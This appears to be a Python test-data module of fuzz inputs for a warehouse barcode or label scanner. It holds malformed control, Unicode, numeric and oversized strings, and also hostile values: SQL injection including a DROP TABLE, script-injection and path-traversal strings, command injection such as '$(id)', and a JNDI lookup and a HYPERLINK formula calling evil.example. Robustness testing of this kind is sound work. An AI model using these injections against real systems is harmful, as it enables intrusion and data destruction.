"""Two hundred codes that no honest label carries, as a worker's scanner or another system may send them."""

import json

CONTROL = ["\0", "A\0B", "\0" * 100, "W1-A-01-1\0", "\x1b[2J", "\x1b]0;owned\x07", "\x1b[31mred\x1b[0m", "A\x08\x08\x08B", "\x07" * 50, "\x7f",
           "\x1d", "\x1d" * 40, "\x1d01\x1d", "A\rB", "A\nB", "A\r\nB", "\r\n\r\n", "X\r\nSet-Cookie: a=b", "X\r\n\r\nHTTP/1.1 200 OK",
           "A\tB", "\t", "\x02W1-A-01-1\x03", "\x04", "\x1c\x1e\x1f", "\x80\x81", "\x85next", "\u2028line", "\u2029paragraph"]
UNICODE = ["\u202eTSIL-KCIP", "\u202dABC", "\u2066abc\u2069", "A\u200bB", "\u200b", "\ufeffW1-A-01-1", "A\u200dB", "\u00ad", "e\u0301" * 20,
           "Z\u0351\u036b\u0343\u036a\u0302" * 30, "\u0301", "😀", "👩‍👩‍👧‍👦", "🇨🇳", "𝟙𝟚𝟛", "𠜎𠜱", "\U0010ffff", "\ufffe", "\uffff",
           "\ufffd", "\ud800", "\udc00", "\ud83d", "A\udfffB", "\udc00\ud800", "ＳＥＬＥＣＴ", "１２３", "٣٤٥", "Ⅷ", "ı", "İ", "ß", "ﬀ",
           "\u3000", "\u00a0", "李伟" * 200, "مرحبا", "שלום", "¨`´", "\u1680", "𐀀" * 100]
LARGE = ["A" * 513, "A" * 4_096, "A" * 4_097, "0" * 10_000, "]C1" + "01" * 5_000, " " * 1_000, "(" * 500, "%" * 300, "\\" * 300, "'" * 300,
         "😀" * 2_000, "9" * 400]
NUMBERS = ["-1", "0", "-0", "1e999", "1e-999", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "9223372036854775807",
           "9223372036854775808", "-9223372036854775809", "99999999999999999999999999", "1.5", "1,5", "٣", "+1", "--1", "1/0"]
SQL = ["' OR '1'='1", "'; DROP TABLE balance; --", '" OR ""="', "1; SELECT pg_sleep(10)", "' UNION SELECT * FROM worker --", "\\'; --",
       "x' AND 1=(SELECT COUNT(*) FROM sqlite_master) --", "%", "_", "%%", "a%b_c", ":x", ":1", "$1", "?", "/*", "*/", "--", ";", "$$", "E'\\''",
       "NULL", "null", "true"]
WEB = ["javascript:alert(1)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "data:text/html,<b>",
       "https://evil.example/?q=", "//evil.example", "file:///etc/passwd", "&lt;b&gt;", "<!--", "]]>", "<?xml version='1.0'?><!DOCTYPE a>",
       "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "....//", "%2e%2e%2f", "%00", "%0d%0a", "%zz", "CON", ".", "..", "/", "\\", "~root",
       "a" * 200 + "/../x", "?a=b", "#enrol=AAAA", "&x=1", "+"]
TEMPLATES = ["{0}", "{}", "{name}", "{0.__class__}", "{name!r:>99999}", "%s", "%n", "%d%d%d", "%(name)s", "${7*7}", "{{7*7}}", "{{''.__class__.__mro__}}",
             "{% for x in y %}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "| id", "&& id", "=1+1",
             '=HYPERLINK("http://evil.example")', "@SUM(1)", "-2+3", "__proto__", "constructor", "__class__", "self"]
LABELS = ["^XA^XZ", "^XZ~JR", "~JR", "~DGR:X", "^FD^FS", "^CC!", "~CT!", "^XFR:X", "]C1", "]C101", "]C10109506000134352\x1d10", "]C1" + "\x1d" * 20,
          "]C1(01)09506000134352", "]d2https://example.com/01/09506000134352?17=999999", "]C117999999", "]C11700", "00395212340000000018",
          "]Q3\\000003", "]E0000"]
SHAPES = ["{", "[", '"', '{"a":1}', "[" * 200, json.dumps({"a": [{"b": "c"}]}), "null", "\\u0000", "\\ud800", "op", "admin", "SUPPLIER", "UNDO;",
          "AISLE:DONE", "LPN", "t1", "t99999999999999999999"]
CODES: list[str] = [*CONTROL, *UNICODE, *LARGE, *NUMBERS, *SQL, *WEB, *TEMPLATES, *LABELS, *SHAPES]


def _deep(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = {"a": [value]}
    return value


VALUES: list[object] = [None, True, False, 0, -1, 1, 2**31, 2**53, 2**63, -(2**63) - 1, 10**30, 0.5, -0.0, 1e308, [], {}, [[]], [None], {"": ""},
                        {"\0": 1}, {"\ud800": "\ud800"}, ["x"] * 500, _deep(4), _deep(30), {"type": "item"}, {"type": [], "key": {}}, [{"item": {}}]]
